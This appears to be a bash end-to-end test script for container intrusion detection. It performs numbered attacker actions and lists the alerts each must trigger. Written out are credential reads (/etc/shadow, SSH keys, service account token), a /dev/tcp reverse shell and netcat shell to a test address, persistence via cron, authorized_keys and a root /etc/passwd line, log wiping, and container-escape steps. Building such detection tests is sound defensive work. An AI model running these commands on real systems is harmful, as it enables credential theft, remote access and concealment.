#!/bin/bash
# attack.sh pod|privileged|docker: what an intruder does in a container, one numbered action after the
# other, each with the alerts it must raise (lib.sh tells the form). Run by test/e2e/detect.sh inside a
# container of image.sh; outside, it would do damage. 203.0.113.7, 169.254.169.254 and 10.96.0.1 are
# addresses of the test's own network namespace, where a small server listens.
[ -e /opt/app/report.sh ] && [ -e /usr/local/bin/intruder ] || exit 1
. /attack/lib.sh
out=203.0.113.7

credentials() {
	action read-shadow && {
		want cat 'Read sensitive file untrusted' /etc/shadow
		ours cat 'Password file read' /etc/shadow
		cat /etc/shadow
	}
	action read-shadow-python python3 && {
		want python3 'Read sensitive file untrusted'
		ours python3 'Password file read'
		python3 -S -c 'open("/etc/shadow").read()'
	}
	action read-sudoers-openat2 && {
		want intruder 'Read sensitive file untrusted' openat2
		ours intruder 'Password file read' openat2
		intruder openat2 /etc/sudoers
	}
	action read-pam-open && {
		want intruder 'Read sensitive file untrusted' 'open /etc/pam.d'
		intruder open /etc/pam.d/common-auth
	}
	action read-by-traversal perl && {
		want cat 'Directory traversal monitored file read' ../../etc/passwd
		perl -e 'chdir "/srv/site/a"; system("cat", "../../../etc/passwd")'
	}
	action traversal-that-fails perl && {
		want cat 'Directory traversal monitored file read' nothing
		perl -e 'chdir "/srv/site/a"; system("cat", "../../../etc/nothing")'
	}
	action read-ssh-key && {
		want head 'Read ssh information' id_ed25519
		ours head 'Private key read' id_ed25519
		head -c 20 /root/.ssh/id_ed25519
	}
	action list-ssh-folder && {
		want ls 'Read ssh information' /root/.ssh
		ls /root/.ssh
	}
	action grep-private-keys && {
		want grep 'Search Private Keys or Passwords' 'BEGIN OPENSSH PRIVATE'
		grep -rl 'BEGIN OPENSSH PRIVATE' /srv
	}
	action find-private-keys && {
		want find 'Search Private Keys or Passwords' id_rsa
		find /srv -name id_rsa
	}
	action grep-aws && {
		want grep 'Find AWS Credentials' aws_secret_access_key
		grep -r aws_secret_access_key /srv
	}
	action find-aws && {
		want find 'Find AWS Credentials' .aws/credentials
		find /srv -path .aws/credentials
	}
	action read-environ && {
		want cat 'Read environment variable from /proc files' /proc/1/environ
		cat /proc/1/environ
	}
	action symlink-shadow && {
		want ln 'Create Symlink Over Sensitive Files' /etc/shadow
		ours ln 'Secret file linked elsewhere'
		ln -s /etc/shadow /tmp/notes
	}
	action symlink-etc-old-call && {
		want intruder 'Create Symlink Over Sensitive Files' symlink
		intruder symlink /etc /tmp/conf
	}
	action hardlink-shadow && {
		want ln 'Create Hardlink Over Sensitive Files' /etc/shadow
		ours ln 'Secret file linked elsewhere'
		ln /etc/shadow /tmp/hard
	}
	action hardlink-sudoers-old-call && {
		want intruder 'Create Hardlink Over Sensitive Files' link
		ours intruder 'Secret file linked elsewhere'
		intruder link /etc/sudoers /tmp/hard-too
	}
}

execution() {
	action web-server-shell && {
		want sh 'Run shell untrusted' 'sh -c id'
		ours sh 'Shell started by a server' 'sh -c id'
		nginx spawn sh -c id
	}
	action database-program && {
		want id 'DB program spawned process'
		mysqld spawn id
	}
	action system-user && {
		want id 'System user interactive'
		sshd spawn-as 33 id
	}
	action package-manager apt-get && {
		want apt-get 'Launch Package Management Process in Container'
		ours apt-get 'Package tool in a container'
		apt-get --version
	}
	action package-list dpkg && {
		want dpkg 'Launch Package Management Process in Container'
		ours dpkg 'Package tool in a container'
		dpkg -l
	}
	action drop-and-execute && {
		cp /usr/bin/id /tmp/dropped
		want dropped 'Drop and execute new binary in container'
		ours dropped 'Program that its image does not have'
		/tmp/dropped
	}
	action shared-memory-execute && {
		cp /usr/bin/id /dev/shm/x
		want x 'Execution from /dev/shm'
		ours x 'Program from shared memory'
		/dev/shm/x
	}
	action memory-execute && {
		want '*' 'Fileless execution via memfd_create' nothing
		ours '*' 'Program from memory' nothing
		intruder memory-exec
	}
	action memory-execute-at && {
		want '*' 'Fileless execution via memfd_create' nothing
		ours '*' 'Program from memory' nothing
		intruder memory-execat
	}
	action glibc-tunables && {
		want id 'Potential Local Privilege Escalation via Environment Variables Misuse'
		GLIBC_TUNABLES=glibc.malloc.perturb=1 id
	}
	action ptrace-attach && {
		want intruder 'PTRACE attached to process' attach
		ours intruder 'Another process traced' attach
		intruder attach
	}
	action ptrace-seize && {
		want intruder 'PTRACE attached to process' seize
		ours intruder 'Another process traced' seize
		intruder seize
	}
	action anti-debug && {
		want intruder 'PTRACE anti-debug attempt' trace-me
		intruder trace-me
	}
	action backdoored-library && {
		want sshd 'Backdoored library loaded into SSHD (CVE-2024-3094)'
		sshd open /usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1
	}
}

privileges() {
	action setuid-bit && {
		cp /usr/bin/id /data/helper
		want chmod 'Set Setuid or Setgid bit' u+s
		chmod u+s /data/helper
	}
	action setgid-bit-fchmod && {
		want intruder 'Set Setuid or Setgid bit' fchmod
		intruder fchmod 2755 /data/helper
	}
	action setuid-bit-old-call && {
		want intruder 'Set Setuid or Setgid bit' 'chmod 4755'
		intruder chmod 4755 /data/helper
	}
	action run-setuid-program && {
		want helper 'Drop and execute new binary in container'
		ours helper 'Unknown set-user-ID program'
		intruder spawn-as 33 /data/helper
	}
	action become-root && {
		want intruder 'Non sudo setuid' 'become 0'
		intruder spawn-as 33 intruder become 0
	}
	action unshare-user unshare && {
		want unshare 'Change namespace privileges via unshare'
		ours unshare 'Namespace entered from a container'
		unshare -U true
	}
	action unshare-mount unshare && {
		want unshare 'Change namespace privileges via unshare'
		unshare -m true
	}
	action enter-namespace nsenter && {
		want nsenter 'Change thread namespace'
		ours nsenter 'Namespace entered from a container'
		nsenter -t 1 -n true
	}
	action enter-namespace-call && {
		want intruder 'Change thread namespace' /proc/1/ns/ipc
		ours intruder 'Namespace entered from a container'
		intruder namespace /proc/1/ns/ipc
	}
}

network() {
	action packet-socket && {
		want intruder 'Packet socket created in container'
		ours intruder 'Packet socket in a container'
		intruder packet
	}
	action api-server curl && {
		want curl 'Contact K8S API Server From Container'
		ours curl 'Kubernetes API asked by a tool'
		curl -s -m 2 https://10.96.0.1/api
	}
	action metadata-service curl && {
		want curl 'Contact EC2 Instance Metadata Service From Container'
		ours curl 'Cloud metadata asked'
		curl -s -m 2 http://169.254.169.254/latest/meta-data/
	}
	action netcat-shell nc && {
		want nc 'Netcat Remote Code Execution in Container' ' -e '
		want nc 'Redirect STDOUT/STDIN to Network Connection in Container'
		ours nc 'Standard streams on a connection'
		nc $out 4444 -e /bin/true
	}
	action netcat nc && {
		want nc 'Launch Suspicious Network Tool in Container'
		nc -h
	}
	action telnet telnet && {
		want telnet 'Launch Suspicious Network Tool in Container'
		telnet
	}
	action reverse-shell && {
		want bash 'System procs network activity' /dev/tcp
		want bash 'Redirect STDOUT/STDIN to Network Connection in Container' /dev/tcp
		ours bash 'Shell on the network' /dev/tcp
		ours bash 'Standard streams on a connection' /dev/tcp
		bash -c "exec 4<>/dev/tcp/$out/4444 0<&4 1>&4"
	}
	action streams-to-socket && {
		want intruder 'Redirect STDOUT/STDIN to Network Connection in Container' streams
		ours intruder 'Standard streams on a connection'
		intruder streams $out 4444
	}
	action ssh-odd-port ssh && {
		want ssh 'Disallowed SSH Connection Non Standard Port'
		ssh -F none -o BatchMode=yes -o ConnectTimeout=2 -p 443 $out
	}
	action udp-odd-port && {
		want intruder 'Unexpected UDP Traffic' udp
		intruder udp $out 9999
	}
	action copy-out scp && {
		want scp 'Launch Remote File Copy Tools in Container'
		scp
	}
	action download wget && {
		want wget 'Launch Ingress Remote File Copy Tools in Container'
		wget -q -T 2 -t 1 -O /data/loot http://$out/
	}
	action download-curl curl && {
		want curl 'Launch Ingress Remote File Copy Tools in Container'
		curl -s -m 2 -o /data/loot2 http://$out/
	}
	action proxied curl && {
		want curl 'Program run with disallowed http proxy env'
		HTTP_PROXY=http://$out:80/ curl -s -m 2 http://127.0.0.1:1/
	}
	action miner-pool && {
		ours intruder 'Mining pool contacted'
		intruder connect $out 3333
	}
}

persistence() {
	action shell-startup && {
		want tee 'Modify Shell Configuration File' .bashrc
		echo evil | tee -a /root/.bashrc
	}
	action cron-file && {
		want tee 'Schedule Cron Jobs' /etc/cron.d
		ours tee 'Scheduled to run later'
		echo '* * * * * root true' | tee /etc/cron.d/update
	}
	action crontab crontab && {
		want crontab 'Schedule Cron Jobs'
		crontab -l
	}
	action authorized-keys && {
		want tee 'Adding ssh keys to authorized_keys'
		ours tee 'Login key added'
		echo key | tee -a /root/.ssh/authorized_keys
	}
	action file-below-dev && {
		want touch 'Create files below dev' /dev/.hidden
		touch /dev/.hidden
	}
	action below-etc && {
		ours cp 'Configuration written in a container'
		cp /etc/hosts /etc/hosts.allow
	}
	action binary-folder && {
		ours cp 'Program folder written in a container'
		cp /usr/bin/id /usr/bin/ls2
	}
	action new-user useradd && {
		useradd -M mallory
	}
	action account-line && {
		ours tee 'Account file changed' /etc/passwd
		echo 'eve::0:0::/:/bin/sh' | tee -a /etc/passwd
	}
}

traces() {
	action clear-log && {
		want bash 'Clear Log Activities'
		ours bash 'Log emptied'
		: >/var/log/auth.log
	}
	action truncate-log && {
		want intruder 'Clear Log Activities' truncate
		ours intruder 'Log emptied'
		intruder truncate /var/log/syslog
	}
	action shred shred && {
		want shred 'Remove Bulk Data from Disk'
		shred -n 1 /data/in/1.txt
	}
	action delete-history && {
		want rm 'Delete or rename shell history'
		ours rm 'Shell history removed'
		rm /root/.bash_history
	}
	action rename-history && {
		want mv 'Delete or rename shell history'
		ours mv 'Shell history removed'
		mv /home/app/.bash_history /tmp/h
	}
	action truncate-history && {
		want bash 'Delete or rename shell history'
		ours bash 'Shell history removed'
		: >/root/.ash_history
	}
	action unlink-history-old-call && {
		want intruder 'Delete or rename shell history' unlink
		ours intruder 'Shell history removed'
		intruder unlink /root/.ash_history
	}
}

others() { # what our own rules see and the official ones do not
	action token cat && {
		ours cat 'Service account token read'
		cat /var/run/secrets/kubernetes.io/serviceaccount/token
	}
	action uring-open && {
		want intruder 'Read sensitive file untrusted' uring-open
		ours intruder 'Password file read' uring-open
		intruder uring-open /etc/shadow
	}
	action uring-connect && {
		ours intruder 'Mining pool contacted' uring-connect
		intruder uring-connect $out 3333
	}
	action fault-handler && {
		intruder fault-handler
	}
	action shadow-through-proc && {
		ours cat 'Password file read' /proc/self/root
		cat /proc/self/root/etc/shadow
	}
}

privileged() {
	action mount && {
		want mount 'Mount Launched in Privileged Container'
		ours mount 'File system mounted in a container'
		mount -t tmpfs none /srv
	}
	action debugfs debugfs && {
		want debugfs 'Debugfs Launched in Privileged Container'
		debugfs -V
	}
	action module insmod /proc/modules && {
		want insmod 'Linux Kernel Module Injection Detected'
		ours insmod 'Kernel module loaded'
		insmod /opt/app/evil.ko
	}
	action module-old-call /proc/modules && {
		want intruder 'Linux Kernel Module Injection Detected' module-init
		ours intruder 'Kernel module loaded'
		intruder module-init
	}
	action release-agent && {
		mkdir -p /tmp/cgrp
		want bash 'Detect release_agent File Container Escapes'
		ours bash 'Way out to the host written'
		echo /bin/true >/tmp/cgrp/release_agent
	}
	action load-bpf && {
		want intruder 'BPF Program Not Profiled'
		ours intruder 'BPF program loaded'
		intruder bpf-load
	}
	action host-namespace nsenter && {
		want nsenter 'Change thread namespace'
		ours nsenter 'Namespace entered from a container'
		nsenter -t 1 -m true
	}
	action disk mknod && {
		ours mknod 'Device node made in a container'
		mknod /tmp/disk b 253 0
	}
}

docker() {
	action read-shadow && {
		want cat 'Read sensitive file untrusted'
		ours cat 'Password file read' /etc/shadow
		cat /etc/shadow
	}
	action drop-and-execute && {
		cp /usr/bin/true /tmp/dropped
		want dropped 'Drop and execute new binary in container'
		ours dropped 'Program that its image does not have'
		/tmp/dropped
	}
	action delete-history && {
		want rm 'Delete or rename shell history'
		ours rm 'Shell history removed'
		rm -f /root/.bash_history
	}
}

case $1 in
pod)
	mkfifo /tmp/go
	nginx when /tmp/go /etc/shadow & # a server that has run for a while, see late-read
	credentials
	execution
	privileges
	network
	persistence
	traces
	others
	[ "$SECONDS" -ge 6 ] || rest $((6 - SECONDS))
	action late-read && {
		want nginx 'Read sensitive file trusted after startup' when
		ours nginx 'Password file read' when
		: >/tmp/go
		wait
	}
	;;
*) $1 ;;
esac
end
